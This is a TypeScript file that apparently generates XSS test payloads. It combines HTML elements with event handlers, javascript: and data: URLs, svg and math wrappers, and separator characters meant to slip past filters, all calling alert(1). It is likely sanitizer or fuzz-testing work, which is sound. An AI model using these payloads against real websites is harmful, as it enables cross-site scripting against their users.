const elements =
  'a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup command comment content custom-x data datalist dd del details dfn dialog dir discard div dl dt element em embed fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext pre progress q rb rp rt rtc ruby s samp script search section select shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xml xmp'.split(
    ' ',
  );
const handlers =
  'abort activate afterprint animationcancel animationend animationiteration animationstart auxclick beforeactivate beforecopy beforecut beforedeactivate beforeinput beforeload beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce canplay canplaythrough change command contentvisibilityautostatechange click close contextmenu copy cuechange cut dblclick deactivate devicemotion drag dragend dragenter dragleave dragover dragstart drop durationchange emptied end ended error filterchange finish focus focusin focusout formchange formdata forminput fullscreenchange gotpointercapture hashchange help input invalid keydown keypress keyup load loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online orientationchange pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange rejectionhandled repeat reset resize scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun unhandledrejection unload volumechange waiting webkitanimationstart wheel'.split(
    ' ',
  );
const addressed =
  'action formaction data poster srcset background cite longdesc xlink:href ping srcdoc manifest code codebase classid dynsrc lowsrc folder value values from to content archive'.split(
    ' ',
  );
const programs = [
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>parent.alert(1)</script>',
];

// Characters that a browser may skip, or that end a name or a value early.
const separators = [
  ...Array.from({ length: 33 }, (_, code) => String.fromCharCode(code)),
  ...'"\'`/\\=<>:;&-!+~\x7F\x85\xA0\xAD\u1680\u180E\u2000\u2003\u200A\u200B\u200D\u2028\u2029\u202F\u205F\u2060\u3000\uFEFF\uFFFE',
];

function inGroups<T>(all: ReadonlyArray<T>, size: number): ReadonlyArray<ReadonlyArray<T>> {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, group) => all.slice(group * size, (group + 1) * size));
}

/**
 * Combines every element with every handler, with every attribute that takes an address, and inside another language, and every odd
 * character at every place that has worked. Handlers share an element, up to the limit of attributes; a picture also has a valid
 * address, because it would be dropped without one.
 */
export function combinations(): ReadonlyArray<string> {
  const handled = elements.flatMap((name) =>
    inGroups(handlers, 20).map(
      (some) => `<${name} src=/x autofocus tabindex=0 ${some.map((event) => `on${event}=alert(1)`).join(' ')}>x</${name}>`,
    ),
  );
  const led = elements.flatMap((name) =>
    programs.flatMap((to) => [
      ...['src', 'href'].map((attribute) => `<${name} ${attribute}="${to}">x</${name}>`),
      `<${name} src=/x href=/x ${addressed.map((attribute) => `${attribute}="${to}"`).join(' ')}>x</${name}>`,
    ]),
  );
  const foreign = elements.flatMap((name) =>
    ['svg', 'math'].map((outer) => `<${outer}><${name} src=x onload=alert(1) onerror=alert(1)><b></${name}></${outer}>`),
  );
  const separated = separators.flatMap((odd) => [
    ...[`${odd}javascript:`, `java${odd}script:`, `javascript${odd}:`].map((to) => `<a href="${to}alert(1)">x</a>`),
    `<img${odd}src=x${odd}onerror${odd}=${odd}alert(1)${odd}>`,
    `<${odd}img src=x onerror=alert(1)><img ${odd}src=x ${odd}onerror=alert(1)>`,
    `<script${odd}>alert(1)</script${odd}>`,
    `<!--${odd}><img src=x onerror=alert(1)><!-- --${odd}><img src=x onerror=alert(1)>-->`,
  ]);
  return [...handled, ...led, ...foreign, ...separated];
}
